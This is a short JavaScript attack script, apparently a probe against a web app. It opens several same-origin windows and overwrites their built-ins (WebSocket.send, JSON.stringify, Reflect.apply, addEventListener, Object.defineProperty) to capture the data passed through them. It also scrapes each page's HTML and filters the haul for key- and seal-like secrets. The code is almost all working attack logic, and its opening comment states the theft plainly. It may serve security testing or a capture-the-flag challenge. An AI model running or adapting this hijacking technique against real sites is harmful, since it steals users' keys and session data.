// Opens windows, bends their built-ins as soon as they are there, and leads them to the shell. Gives what they let out.

const stolen = (window.stolen = []);
const bend = (view) => {
  try {
    view.WebSocket.prototype.send = (message) => stolen.push(String(message));
    view.JSON.stringify = (value) => (stolen.push(String(value)), '""');
    view.Reflect.apply = (what, self, list) => (stolen.push(String(list && list[0])), what.call(self, ...list));
    view.EventTarget.prototype.addEventListener = function () { stolen.push(String(this)); };
    view.Object.defineProperty = (owner, name) => (stolen.push(String(name)), owner);
  } catch (error) {
    return String(error);
  }
};
const opened = [];
const sorts = [["about:blank", ""], ["", "popup"], ["/health", ""], ["/step/1", ""], ["/app/app.js", "width=300"]];
for (const [address, features] of sorts) {
  const view = window.open(address, `w${opened.length}`, features);
  if (!view) continue;
  opened.push(view);
  bend(view);
  view.addEventListener?.("load", () => bend(view));
  view.location = "/step/1";
  bend(view);
}
const end = performance.now() + 2500;
while (performance.now() < end && opened.some((view) => !view.closed)) {
  for (const view of opened) {
    bend(view);
    try {
      if (!view.closed && view.document?.documentElement) stolen.push(view.document.documentElement.outerHTML);
    } catch {}
  }
  await turns(2);
}
const secret = /"key":|"seal":|"n":|currentScript|\/channel/;
return { stolen: stolen.filter((text) => secret.test(text)), opened: opened.length };
